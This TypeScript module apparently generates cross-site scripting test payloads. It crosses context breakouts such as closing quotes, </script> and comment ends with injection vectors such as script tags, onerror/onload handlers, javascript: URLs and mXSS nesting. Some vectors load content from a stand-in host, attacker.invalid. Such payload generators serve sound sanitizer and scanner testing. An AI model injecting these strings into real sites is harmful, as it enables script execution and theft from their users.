/**
 * Words that would do something if a page took them for its own: every way out of where words stand, with every way in which a
 * page comes to run something. `ran()` is what they call. Made, not listed, so that each way out meets each way in.
 */
const waysOut = [
  '',
  '"',
  "'",
  '`',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</script>',
  '</style>',
  '</option></select>',
  '-->',
  ']]>',
  '\\">',
  '&quot;>',
  '"/><',
  '%22%3E',
  '\u2028',
  '</noscript>',
  '{{',
] as const

const waysIn = [
  '<script>ran()</script>',
  '<ScRiPt>ran()</sCrIpT>',
  '<script src=data:,ran()></script>',
  '<img src=x onerror=ran()>',
  '<img src="x" onerror="ran()"',
  '<svg onload=ran()>',
  '<svg/onload=ran()//',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><script>ran()</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=ran()>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<iframe src=javascript:parent.ran()></iframe>',
  '<details open ontoggle=ran()>x',
  '<video><source onerror=ran()></video>',
  '<input autofocus onfocus=ran()>',
  '<body onload=ran()>',
  '<a href=javascript:ran()>x</a>',
  '<form action=javascript:ran()><button>x</button></form>',
  '<object data=javascript:ran()></object>',
  '<base href=//attacker.invalid/>',
  '<meta http-equiv=refresh content="0;url=javascript:ran()">',
  '<link rel=stylesheet href=//attacker.invalid/x.css>',
  '<style>*{background:url(//attacker.invalid/)}</style>',
  ' onmouseover=ran() autofocus onfocus=ran() x=',
  ' style=position:fixed;inset:0 ',
  'javascript:ran()',
  'data:text/html,<script>ran()</script>',
  '＜script＞ran()＜/script＞',
] as const

/** So many, each once; there are a few more than 500. */
export const payloads = (many = 500): string[] =>
  [...new Set(waysIn.flatMap((way) => waysOut.map((out) => `${out}${way}`)))].slice(0, many)

/** One in every so many of all of them, and never the same two side by side. */
export const someOf = (all: readonly string[], every: number): string[] =>
  all.filter((_, at) => at % every === 0)
